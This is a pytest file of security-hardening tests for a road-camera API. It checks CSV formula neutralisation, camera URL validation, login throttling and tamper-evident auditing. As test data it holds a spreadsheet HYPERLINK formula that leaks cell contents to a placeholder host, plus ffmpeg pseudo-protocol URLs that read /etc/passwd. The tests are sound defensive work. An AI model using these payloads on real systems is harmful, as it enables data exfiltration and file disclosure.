"""Issue 12 item 3: each hardening has a test that failed before it."""
from __future__ import annotations

import csv
import io
from types import SimpleNamespace

import pytest
import yaml
from fastapi import FastAPI
from fastapi.testclient import TestClient
from pydantic import SecretStr, ValidationError

from roadcam.common.camconfig.models import SourceConfig
from roadcam.common.settings import S3Settings
from services.api.auth.roles import Role
from services.api.csv_writer import neutralise
from tests.unit.api.apikit import PASSWORD, Api

FORMULA = '=HYPERLINK("http://x/"&A1,"open")'


def test_a_sign_in_name_never_reaches_the_audit_csv_as_a_formula(api: Api) -> None:
    api.client.post("/api/v1/auth/token", json={"username": FORMULA, "password": "whatever-it-is"})
    r = api.client.get("/api/v1/audit/export.csv", headers=api.role_headers()[Role.AUDITOR])
    rows = list(csv.DictReader(io.StringIO(r.content.decode("utf-8-sig"))))
    actors = [row["actor"] for row in rows if row["action"] == "login_failed"]
    assert actors and all(a == "'" + FORMULA for a in actors)


@pytest.mark.parametrize("cell", ["=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx"])
def test_every_formula_start_is_neutralised(cell: str) -> None:
    assert neutralise(cell) == "'" + cell
    assert neutralise("上り") == "上り" and neutralise(-1) == -1


@pytest.mark.parametrize("url", ["concat:/a.ts|/b.ts", "pipe:0", "subfile,,start,0,end,0,,:/etc/passwd",
                                 "ftp://host/x", "file:/etc/passwd", "gopher://x"])
def test_camera_urls_refuse_ffmpeg_pseudo_protocols(url: str) -> None:
    with pytest.raises(ValidationError, match="unsupported scheme"):
        SourceConfig(url=url)


@pytest.mark.parametrize("url", ["rtsp://10.0.0.1/s", "rtsps://h/s", "http://h/x.m3u8", "https://h/x",
                                 "file:///data/clip.mp4", "/data/clip.mp4", "clip.mp4", "./a/b.mp4"])
def test_camera_urls_accept_streams_and_plain_files(url: str) -> None:
    assert SourceConfig(url=url).url == url


def public_client(tmp_path) -> TestClient:
    from services.api.public import create_router

    notice = {"operator": "o", "purpose": "p", "contact": "c"}
    cams = [{"id": "pub-1", "name": "n", "source": {"url": "/x"}, "purposes": ["road_management"],
             "department": "roads", "notice": notice},
            {"id": "survey-only", "name": "n", "source": {"url": "/x"}, "purposes": ["traffic_survey"],
             "department": "roads", "notice": notice}]
    config = tmp_path / "cameras.yaml"
    config.write_text(yaml.safe_dump({"version": 1, "cameras": cams}))
    # S3 is unreachable on purpose: a refused request must never get as far as the store.
    settings = SimpleNamespace(config_file=config, s3=S3Settings(endpoint="127.0.0.1:1"),
                               s3_secret_key=SecretStr("x"), public_bucket="roadcam-public")
    app = FastAPI()
    app.include_router(create_router(settings))
    return TestClient(app, raise_server_exceptions=False)


@pytest.mark.parametrize("path", ["/hls/survey-only/index.m3u8", "/hls/gone-camera/seg-00000001.ts",
                                  "/hls/pub-1%0A/index.m3u8", "/hls/pub-1/index.m3u8%0A"])
def test_hls_serves_only_publishing_cameras_and_exact_names(tmp_path, path: str) -> None:
    assert public_client(tmp_path).get(path).status_code == 404


@pytest.mark.parametrize("path", ["/metrics", "/openapi.json", "/docs", "/redoc"])
def test_metrics_and_api_docs_are_not_public(api: Api, path: str) -> None:
    assert api.client.get(path).status_code in (401, 404)


def test_signed_in_callers_get_the_schema_and_managers_the_metrics(api: Api) -> None:
    headers = api.role_headers()
    assert "/api/v1/counts" in api.client.get("/openapi.json", headers=headers[Role.ANALYST]).json()["paths"]
    assert api.client.get("/metrics", headers=headers[Role.ANALYST]).status_code == 403
    assert "roadcam_api_requests_total" in api.client.get("/metrics", headers=headers[Role.MANAGER]).text


def login(client: TestClient, user: str, password: str):
    return client.post("/api/v1/auth/token", json={"username": user, "password": password})


def stranger(api: Api, address: str) -> TestClient:
    return TestClient(api.client.app, raise_server_exceptions=False, client=(address, 40000))


def test_strangers_cannot_lock_the_manager_out_of_a_known_good_client(api: Api) -> None:
    api.add_account("admin", Role.MANAGER)
    assert login(api.client, "admin", PASSWORD).status_code == 200  # the office's usual client
    for i in range(40):
        login(stranger(api, f"203.0.113.{i % 8}"), "admin", "guess guess")
    assert login(api.client, "admin", PASSWORD).status_code == 200


def test_one_address_cycling_through_user_names_is_throttled(api: Api) -> None:
    statuses = [login(api.client, f"user-{i}", "guess guess").status_code for i in range(60)]
    assert statuses[0] == 401 and statuses[-1] == 429


def test_unknown_user_names_have_a_bounded_argon2_cost(api: Api, monkeypatch: pytest.MonkeyPatch) -> None:
    from services.api.auth import passwords
    from services.api.routes import auth

    calls = []
    monkeypatch.setattr(auth, "verify_password", lambda h, p: calls.append(1) or passwords.verify_password(h, p))
    for i in range(200):
        login(stranger(api, f"198.51.100.{i}"), f"nobody-{i}", "guess guess")
    assert len(calls) <= 30


def test_a_failure_flood_leaves_few_audit_entries(api: Api) -> None:
    api.add_account("ana", Role.ANALYST)
    for _ in range(60):
        r = login(api.client, "ana", "guess guess")
        if r.status_code == 429:  # wait out the lock, staying inside the streak
            api.clock.now_us += (int(r.headers["Retry-After"]) + 1) * 1_000_000
    entries = [e for e in api.parts.audit.iter_all() if e.record.action == "login_failed"]
    assert 0 < len(entries) <= 12


def actions(api: Api, action: str) -> list:
    return [e.record for e in api.parts.audit.iter_all() if e.record.action == action]


def test_an_account_change_that_fails_closed_is_audited(api: Api) -> None:
    api.add_account("op", Role.OPERATOR)
    r = api.client.patch("/api/v1/accounts/op", headers=api.role_headers()[Role.MANAGER], json={"expires_at": None})
    assert r.status_code == 422
    assert [r.details.get("outcome") for r in actions(api, "config_change")] == ["failed_closed"]


def test_the_first_manager_is_audited(tmp_path) -> None:
    from services.api.parts import open_parts
    from tests.unit.api.apikit import settings_for

    settings = settings_for(tmp_path, f"sqlite:///{tmp_path / 'f.sqlite3'}").model_copy(
        update={"bootstrap_manager_password": SecretStr("first-manager-password")})
    parts = open_parts(settings)
    entries = [e.record for e in parts.audit.iter_all()]
    assert [(r.actor, r.action, r.details["account"]) for r in entries] == [("system", "config_change", "admin")]
    parts.engine.dispose()


def test_segment_listings_and_audit_reads_are_audited(api: Api) -> None:
    headers = api.role_headers()
    api.client.get("/api/v1/segments", params={"camera": "bridge-1"}, headers=headers[Role.MANAGER])
    listed = actions(api, "segments_listed")
    assert [(r.actor, r.camera_id) for r in listed] == [("manager-all", "bridge-1")]
    api.client.get("/api/v1/audit", params={"action": "view"}, headers=headers[Role.AUDITOR])
    api.client.get("/api/v1/audit/export.csv", headers=headers[Role.AUDITOR])
    reads = actions(api, "audit_read")
    assert [(r.actor, r.reason, r.details.get("action")) for r in reads] == [
        ("auditor-all", "list", "view"), ("auditor-all", "export", None)]


def bus_audit(api: Api, *records) -> list:
    from services.api.messages import decode

    api.sink().store(decode(list(records)))
    return [e.record for e in api.parts.audit.iter_all()]


def test_forged_bus_audit_events_never_become_entries(api: Api) -> None:
    from tests.unit.api import busdata

    forged = [busdata.audit("f-1", api.clock.now_us, "release", actor="admin", master=b"a guessed master key"),
              busdata.audit("f-2", api.clock.now_us, "release", service="anonymizer"),  # not the owner
              busdata.audit("f-3", api.clock.now_us, "config_change")]  # the recorder does not own it
    assert bus_audit(api, *forged) == []
    entries = bus_audit(api, busdata.audit("real-1", api.clock.now_us, "release"))
    assert [(e.event_id, e.details["signed_by"]) for e in entries] == [("recorder:real-1", "recorder")]


def test_a_guessed_event_id_cannot_pre_empt_the_real_event(api: Api) -> None:
    from tests.unit.api import busdata

    bus_audit(api, busdata.audit("rec-42", api.clock.now_us, "view", master=b"forger"))
    entries = bus_audit(api, busdata.audit("rec-42", api.clock.now_us, "view"))
    assert len(entries) == 1 and entries[0].actor == "operator-7"


def test_without_a_signing_key_the_api_refuses_every_bus_audit_event(api: Api) -> None:
    from services.api.bus_sink import BusSink
    from services.api.messages import decode
    from tests.unit.api import busdata

    BusSink(api.parts.counts, api.parts.operations, api.parts.audit).store(
        decode([busdata.audit("a-1", api.clock.now_us)]))
    assert list(api.parts.audit.iter_all()) == []


def test_signing_round_trip_and_unpredictable_ids() -> None:
    from roadcam.common import signing

    key = signing.service_key(b"master", "recorder")
    sig = signing.sign("recorder", key, b"payload")
    assert signing.verify("recorder", key, b"payload", sig)
    assert not signing.verify("recorder", key, b"payload!", sig) and not signing.verify("ingest", key, b"payload", sig)
    assert signing.event_id(key, "hold", "cam-1", "cmd-7") == signing.event_id(key, "hold", "cam-1", "cmd-7")
    assert signing.event_id(key, "hold", "cam-1", "cmd-7") != signing.event_id(b"other", "hold", "cam-1", "cmd-7")


def test_cutting_the_newest_entries_and_rewinding_the_head_fails_verification(api: Api) -> None:
    from sqlalchemy import delete, select, update

    from services.api.audit_chain import AuditRecord
    from services.api.db.tables import AuditEntry, AuditHead

    for i in range(1, 26):  # anchored every 10 entries and after each sensitive action
        action = "export" if i == 25 else "view_stats"
        api.parts.audit.append(AuditRecord(f"ev-{i}", api.clock.now_us + i, "operator-7", action))
    assert api.parts.audit.verify().ok
    with api.parts.engine.begin() as conn:
        keep = conn.execute(select(AuditEntry.seq, AuditEntry.hash).where(AuditEntry.event_id == "ev-22")).one()
        conn.execute(delete(AuditEntry).where(AuditEntry.seq > keep.seq))  # the export and two before it
        conn.execute(update(AuditHead).where(AuditHead.id == 1).values(seq=keep.seq, hash=keep.hash))
    check = api.parts.audit.verify()
    assert not check.ok and "anchored head" in check.problem
    assert api.client.get("/api/v1/audit/verify", headers=api.role_headers()[Role.AUDITOR]).json()["ok"] is False
